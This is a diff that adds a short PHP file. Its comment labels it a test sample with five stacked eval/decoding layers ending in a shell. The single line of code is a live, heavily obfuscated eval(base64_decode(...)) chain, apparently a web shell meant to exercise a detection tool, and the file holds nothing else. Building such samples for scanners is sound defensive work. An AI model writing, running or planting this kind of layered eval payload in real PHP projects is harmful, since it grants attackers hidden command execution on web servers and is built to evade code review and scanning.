@@ -1,0 +1,3 @@
+<?php
+/* Test sample: 5 eval layers: base64 -> gzinflate+base64 -> rot13 -> strrev -> gzuncompress+base64 -> shell. */
+eval(base64_decode('ZXZhbChnemluZmxhdGUoYmFzZTY0X2RlY29kZSgnRmMxYkM0SXdHSURobitOR042NFRRblN4TEtkUVdXWlRZeEFWVzBrNjE5ZXl3Nit2THQ3TGgxZTJod3JkTGV5aHNhU0hIQ2oxRzZtemxGQWk0WXd3eGtJSVp6eWVXbTNqTmxhcHJKZGhQdmlZcEIra0pBOW94MVFaMmVYdzhLNThFRXFvQ1UwWDdzUmJGbFAzRlZJK1l4ZDM5YVJYazJRNmRyMkVWcE5uME9Wcldoa1drYUFoUG16eWNoNjFQK0w1THg1R1c4YTRUMWxSWi9CL0k3Z2REZHoyL1NFbzNTQ2xRSjQrUjNPNDFCYTlkUW5Dd1hqMDd3cz0nKSkpOw=='));
